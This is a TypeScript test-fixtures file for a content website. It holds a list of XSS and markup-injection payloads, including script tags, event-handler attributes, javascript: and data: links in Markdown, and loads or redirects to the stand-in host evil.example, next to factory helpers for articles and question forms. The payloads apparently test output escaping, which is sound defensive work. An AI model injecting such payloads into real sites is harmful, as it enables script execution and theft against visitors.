import type { Entry } from '../features/content/entry.ts'
import { nothingRelated } from '../features/content/entry.ts'

/** Markup of injection attacks: each line would run or load something if a page showed it unescaped. */
export const hostileMarkup: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<form action=//evil.example><button>x</button></form>',
  '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<pre><img src=x onerror=alert(1)></pre>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '</div></main><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "' onmouseover='alert(1)",
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:x)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](https://evil.example"onmouseover="alert(1))',
  '[x](/about "onmouseover=alert(1)")',
  '<javascript:alert(1)>',
  '![x](x"onerror="alert(1))',
  '![x](javascript:alert(1))',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '```example\n<img src=x onerror=alert(1)>\n```',
  '## <img src=x onerror=alert(1)> {#x"onclick="alert(1)}',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <svg onload=alert(1)> |',
  '- [ ] <img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\<script>alert(1)\\</script>',
  '[a]: javascript:alert(1)\n\n[a]',
  '<x onclick=alert(1) style=position:fixed;inset:0>x',
  '{{constructor.constructor("alert(1)")()}}',
]

/** A content entry; a test overrides only the fields it is about. */
export function anEntry(overrides: Partial<Entry> = {}): Entry {
  return {
    kind: 'articles',
    id: 'an-article',
    locale: 'en',
    section: 'beginnings',
    position: 0,
    title: 'An article',
    description: 'What it is about, in a sentence of some length.',
    date: '2026-11-15',
    minutes: 3,
    related: nothingRelated,
    body: 'Words.',
    ...overrides,
  }
}

/** The form of a question to the site. */
export function aQuestion(overrides: Readonly<Record<string, unknown>> = {}): Record<string, unknown> {
  return {
    name: 'Anna',
    email: 'anna@example.org',
    topic: 'A wedding in May',
    question: 'Which of these two days is better?\nThe 8th or the 9th?',
    consent: true,
    locale: 'en',
    ...overrides,
  }
}
